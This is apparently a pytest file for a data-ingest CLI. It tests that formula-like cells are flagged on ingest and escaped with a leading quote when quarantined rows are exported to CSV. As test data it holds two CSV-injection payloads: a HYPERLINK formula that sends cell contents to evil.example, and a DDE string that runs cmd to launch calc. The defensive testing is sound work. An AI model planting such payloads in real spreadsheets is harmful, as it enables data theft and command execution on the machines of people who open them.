"""`govbridge quarantine export`: rejected rows as CSV for a spreadsheet, formula-like
text written behind a ' (CSV injection); the ingest report warns about such text."""

from __future__ import annotations

import csv
import json

from typer.testing import CliRunner

from govbridge.cli.main import app
from ingest_helpers import licence_row

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"点我")'


def test_formula_cells_are_warned_about_and_neutralised_on_export(rt, settings, publish,
                                                                  entry, tmp_path):
    code = publish(entry()).resource_code
    env = {"GOVBRIDGE_HOME": str(settings.home), "GOVBRIDGE_DATABASE_URL": settings.database_url,
           "COLUMNS": "200"}

    def gb(*args: str):
        return runner.invoke(app, list(args), env=env)

    rows = [licence_row(1, legal_rep=FORMULA),
            licence_row(2, legal_rep="@SUM(1+1)*cmd|' /C calc'!A0", legal_rep_id="12345"),
            licence_row(3, legal_rep="-12")]
    path = tmp_path / "执照.jsonl"
    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), "utf-8")
    done = gb("ingest", str(path), "--dataset", code, "--json")
    assert done.exit_code == 0, done.output
    report = json.loads(done.stdout)
    assert (report["accepted"], report["rejected"]) == (2, 1)
    assert [(w["row"], w["field"], w["rule"]) for w in report["warnings"]] == [
        (1, "legal_rep", "formula_like")]
    shown = gb("ingest", str(path), "--dataset", code)
    assert shown.exit_code == 0 and "formula" in shown.stdout

    out = tmp_path / "quarantine.csv"
    exported = gb("quarantine", "export", code, "--out", str(out))
    assert exported.exit_code == 0, exported.output
    with out.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    assert len(table) == 1 and table[0]["row"] == "2"
    assert table[0]["legal_rep"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert table[0]["legal_rep_id"] == "12345" and "legal_rep_id" in table[0]["problems"]
